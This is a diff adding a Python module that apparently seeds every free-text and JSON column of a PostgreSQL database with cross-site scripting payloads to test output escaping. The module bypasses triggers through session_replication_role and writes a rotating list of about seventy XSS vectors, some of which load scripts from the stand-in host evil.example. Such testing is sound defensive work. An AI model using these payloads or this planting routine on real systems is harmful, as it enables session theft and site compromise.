@@ -1,0 +1,152 @@
+"""Sixty scripts that somebody may write into a field, and every field there is: planted at once, past the forms.
+
+What a form or a file would refuse is planted too: what is stored may be older than the form. Which columns hold codes
+that only we write is said here; every other text is a field, so that a new one is planted without anybody's doing.
+"""
+
+import json
+from collections.abc import Iterator
+from typing import Any
+
+import psycopg
+from psycopg.sql import SQL, Identifier
+
+_RUN = "__ran()"
+PAYLOADS = tuple(line.replace("RUN", _RUN) for line in r"""
+<script data-qz>RUN</script>
+<ScRiPt data-qz>RUN</sCrIpT>
+<script data-qz src=//evil.example/x.js></script>
+<script data-qz type=module>RUN</script>
+</script><script data-qz>RUN</script>
+</title><script data-qz>RUN</script>
+</textarea><script data-qz>RUN</script>
+</style><script data-qz>RUN</script>
+--><script data-qz>RUN</script>
+]]><script data-qz>RUN</script>
+"><script data-qz>RUN</script>
+'><script data-qz>RUN</script>
+<img data-qz src=x onerror=RUN>
+"><img data-qz src=x onerror=RUN>
+'><img data-qz src=x onerror=RUN>
+`><img data-qz src=x onerror=RUN>
+<img/data-qz/src=x/onerror=RUN>
+<img data-qz src=x onerror="RUN"//
+<svg data-qz onload=RUN>
+<svg data-qz/onload=RUN>
+<svg data-qz><script>RUN</script></svg>
+<svg data-qz><animate onbegin=RUN attributeName=x dur=1s>
+<svg data-qz><set onbegin=RUN attributeName=x>
+<svg data-qz><a xlink:href="javascript:RUN"><text>x</text></a></svg>
+<svg data-qz><foreignObject><img src=x onerror=RUN></foreignObject></svg>
+<svg data-qz><use href="data:image/svg+xml,<svg id=x onload=RUN>#x">
+<math data-qz><mtext></form><form><mglyph><style></math><img src onerror=RUN>
+<body data-qz onload=RUN>
+<iframe data-qz srcdoc="<script>parent.RUN</script>"></iframe>
+<iframe data-qz src="javascript:parent.RUN"></iframe>
+<object data-qz data="javascript:RUN"></object>
+<embed data-qz src="javascript:RUN">
+<video data-qz><source onerror=RUN></video>
+<audio data-qz src=x onerror=RUN>
+<details data-qz open ontoggle=RUN>x</details>
+<input data-qz autofocus onfocus=RUN>
+<select data-qz autofocus onfocus=RUN></select>
+<marquee data-qz onstart=RUN>x</marquee>
+<a data-qz href="javascript:RUN">x</a>
+<form data-qz action="javascript:RUN"><button>x</button></form>
+<button data-qz formaction="javascript:RUN" form=x>x</button>
+<base data-qz href="//evil.example/">
+<meta data-qz http-equiv=refresh content="0;url=javascript:RUN">
+<link data-qz rel=stylesheet href="//evil.example/x.css">
+<style data-qz>@import "//evil.example/x.css";</style>
+<template data-qz><img src=x onerror=RUN></template>
+<noscript><p title="</noscript><img data-qz src=x onerror=RUN>">
+<x-y data-qz style="animation-name:x" onanimationstart=RUN>x</x-y>
+" autofocus data-qz onfocus=RUN x="
+' autofocus data-qz onfocus=RUN x='
+" onmouseover=RUN data-qz style="position:fixed;inset:0
+javascript:RUN
+jav&#x09;ascript:RUN
+&lt;img data-qz src=x onerror=RUN&gt;
+&#60;img data-qz src=x onerror=RUN&#62;
+\x3cimg data-qz src=x onerror=RUN\x3e
+\u003cimg data-qz src=x onerror=RUN\u003e
+";RUN;//
+';RUN;//
+${RUN}{{RUN}}{% raw %}<%=RUN%>
+""".strip().split("\n"))
+SHORT = '"><b data-qz>'
+"""Where a longer one does not fit."""
+
+CODES = {
+    "project": "category fund stage source source_key record", "project_fact": "category fund stage source source_key",
+    "site": "role method", "pair": "kind model facts_hash levels weights reason", "person_grant": "role",
+    "verdict": "verdict facts_hash machine_kind blind", "region": "level code", "upload": "format state outcome",
+    "upload_row": "outcome source_key method", "person": "language password_hash totp_secret",
+    "job": "task state refusal", "export": "source format language", "check_result": "answer",
+    "check_list": "state", "finding": "state", "finding_event": "kind", "sample": "method strata_of filter strata",
+    "anomaly": "kind reason", "anomaly_run": "means", "model": "content", "upload_correction": "kind",
+    "model_draft": "content origin result learned", "column_mapping": "shape", "pair_standing": "verdict state kind",
+    "installation": "*", "audit": "table_name change",
+}
+"""By table, what only we write: codes, sums and structures whose words come from our own lists."""
+OURS = ("audit_", "procrastinate", "_yoyo", "yoyo", "spatial_ref_sys", "sign_in", "map_", "region_count", "work_past")
+"""Tables by which nothing is said to a person, or that are worked out from the others."""
+
+
+def fields(db: psycopg.Connection) -> Iterator[tuple[str, str, str]]:
+    """(table, column, type) of each field in which somebody's words may stand."""
+    for table, column, kind in db.execute(
+            """
+            SELECT c.table_name, c.column_name, c.data_type
+              FROM information_schema.columns c JOIN information_schema.tables t USING (table_schema, table_name)
+             WHERE t.table_schema = 'public' AND t.table_type = 'BASE TABLE' AND c.is_generated = 'NEVER'
+               AND c.data_type IN ('text', 'character varying', 'jsonb') ORDER BY 1, 2
+            """).fetchall():
+        known = CODES.get(table, "").split()
+        if not table.startswith(OURS) and column not in known and "*" not in known:
+            yield table, column, kind
+
+
+def plant(db: psycopg.Connection, turn: int = 0) -> tuple[set[str], set[str]]:
+    """Write payloads into every field of every row, another one each; `turn` moves them on. Answers the fields that
+    hold one, and those in which the database lets none stand."""
+    planted, closed, number = set(), set(), turn
+    for table, column, kind in fields(db):
+        # what is still empty is filled too, where it is a text: another installation may have filled it
+        rows = db.execute(SQL("SELECT ctid, {} FROM {} WHERE {} IS NOT NULL OR %s").format(
+            *map(Identifier, (column, table, column))), [kind != "jsonb"]).fetchall()
+        for place, value in rows:
+            number += 1
+            if _planted(db, (table, column, kind), place, value, PAYLOADS[number % len(PAYLOADS)]):
+                planted.add(f"{table}.{column}")
+        if rows and f"{table}.{column}" not in planted:
+            closed.add(f"{table}.{column}")
+    return planted, closed
+
+
+def _planted(db: psycopg.Connection, field: tuple[str, str, str], place: str, value: Any, payload: str) -> bool:
+    """Whether the row holds it now, or a shorter one."""
+    for tried in (payload, SHORT):
+        new = tried if field[2] != "jsonb" else json.dumps(_within(value, tried))
+        try:
+            with db.transaction():
+                db.execute("SET LOCAL session_replication_role = replica")
+                db.execute(SQL("UPDATE {} SET {} = %s WHERE ctid = %s").format(
+                    *map(Identifier, field[:2])), [new, place])
+        except (psycopg.errors.IntegrityError, psycopg.errors.StringDataRightTruncation):
+            continue
+        return field[2] != "jsonb" or tried in new or json.dumps(tried)[1:-1] in new
+    return False
+
+
+def _within(value: Any, payload: str) -> Any:
+    """The same structure with the payload where somebody's words stand: those with a space or the mark of a thing, and
+    the headings of their files."""
+    match value:
+        case str() if " " in value or "Qx" in value or "Rabat" in value or value == "nama":
+            return payload
+        case list():
+            return [_within(one, payload) for one in value]
+        case dict():
+            return {payload if name == "nama" else name: _within(one, payload) for name, one in value.items()}
+    return value
